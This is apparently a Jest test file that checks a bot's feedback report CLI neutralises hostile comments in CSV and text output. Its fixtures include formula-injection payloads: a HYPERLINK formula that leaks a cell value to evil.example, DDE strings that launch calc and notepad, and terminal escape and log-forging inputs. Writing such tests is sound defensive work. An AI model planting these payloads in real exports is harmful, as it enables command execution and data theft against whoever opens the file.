import { join } from "node:path";
import { runReport } from "../../../bot/cli/report";
import { SqlFeedbackStore } from "../../../bot/feedback/store";
import { openDatabase } from "../../../bot/storage/database";
import { REPO_ROOT, tempDataDir } from "../../helpers/app";

async function cli(args: string[], dataDir: string): Promise<string> {
  const out: string[] = [];
  const code = await runReport(args, { DATA_DIR: dataDir, KNOWLEDGE_DIR: join(REPO_ROOT, "knowledge") }, (t) => out.push(t), () => undefined);
  expect(code).toBe(0);
  return out.join("\n");
}

/** Any C0 or C1 control character but CR and LF (and, outside CSV, those too). */
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const CONTROL = /[\u0000-\u0009\u000B\u000C\u000E-\u001F\u007F-\u009F]/;

describe("reports of hostile feedback", () => {
  const dataDir = tempDataDir();
  const origin = { conversation: "c", userHash: "u" };
  beforeAll(async () => {
    const database = await openDatabase({ dataDir });
    const store = new SqlFeedbackStore(database);
    // written straight to the store, as older versions (or another tool) may have left them
    await store.write({ kind: "answer", id: "a1", at: "2026-11-20T10:00:00.000Z", ...origin, entryId: "crm-musteri-iliskileri", source: "match", questionId: null });
    await store.write({ kind: "rating", answerId: "a1", entryId: "crm-musteri-iliskileri", rating: 1, at: "2026-11-20T10:01:00.000Z", ...origin });
    const comments = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"tıkla")',
      "+1+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1+1)",
      "\tgizli",
      "\r=1+1",
      "iyi\u001b[2J\u001b[31mkırmızı\u009b1m\u0007",
      "ilk satır\n2026-11-20 10:09  sahte-kayit  5  uydurma satır\r\nüçüncü",
    ];
    for (const [i, text] of comments.entries()) {
      await store.write({ kind: "comment", id: `c${i}`, answerId: "a1", entryId: "crm-musteri-iliskileri", rating: 1, text, at: `2026-11-20T10:0${i}:30.000Z`, ...origin });
    }
    await store.write({ kind: "question", id: "q1", at: "2026-11-21T10:00:00.000Z", ...origin, query: "=cmd|' /C notepad'!A1", status: "none", entryId: null, confidence: 0.1 });
    await database.close();
  });

  it("neutralises CSV fields that a spreadsheet would run as a formula (OWASP: a leading ')", async () => {
    const csv = await cli(["--csv", "--table", "comments"], dataDir);
    const texts = csv.split("\r\n").slice(1).map((line) => line.slice(line.lastIndexOf(",1,") + 3));
    expect(texts).toEqual(
      expect.arrayContaining([
        `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""tıkla"")"`,
        "'+1+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(1+1)",
      ]),
    );
    for (const line of csv.split("\r\n")) for (const cell of line.split(",")) expect(cell).not.toMatch(/^"?[=+\-@\t\r]/);
    const unanswered = await cli(["--csv", "--table", "unanswered"], dataDir);
    expect(unanswered.split("\r\n")[1]).toMatch(/^"?'=cmd/);
  });

  it("keeps one record per line in CSV and strips control characters", async () => {
    const csv = await cli(["--csv", "--table", "comments"], dataDir);
    const records = csv.split("\r\n");
    expect(records).toHaveLength(1 + 8);
    for (const record of records) expect(record).not.toMatch(/[\r\n]/);
    expect(csv).not.toMatch(CONTROL);
    expect(csv).toContain("iyi[2J[31mkırmızı1m");
  });

  it("prints no terminal escapes and no forged lines in the text report", async () => {
    const text = await cli([], dataDir);
    expect(text).not.toMatch(CONTROL);
    expect(text).not.toContain("\r");
    const lines = text.split("\n");
    expect(lines.filter((line) => line.includes("sahte-kayit"))).toEqual([expect.stringContaining("ilk satır 2026-11-20 10:09")]);
    expect(lines.some((line) => line.startsWith("üçüncü"))).toBe(false);
  });
});
